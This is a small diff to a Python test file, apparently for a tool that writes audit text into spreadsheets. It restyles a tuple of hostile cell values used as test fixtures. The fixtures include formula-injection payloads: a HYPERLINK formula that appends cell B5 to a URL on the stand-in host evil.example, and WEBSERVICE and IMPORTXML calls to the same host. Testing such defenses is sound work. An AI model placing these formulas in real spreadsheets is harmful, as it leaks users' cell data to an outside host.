@@ -28,7 +28,7 @@ from audit.xlsx_text import append, put
 from tests.conftest import SMALL_YAML, header_for
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B5,"click")'
-HOSTILE_IDS = (HYPERLINK, "+1+2", "-3-4", "@SUM(A1:A2)", "#N/A", "=WEBSERVICE(\"http://evil.example\")")
+HOSTILE_IDS = (HYPERLINK, "+1+2", "-3-4", "@SUM(A1:A2)", "#N/A", '=WEBSERVICE("http://evil.example")')
 HOSTILE_AREA = "=2+2 area"
 HOSTILE_TEXT = '=IMPORTXML("http://evil.example","//a")'
 
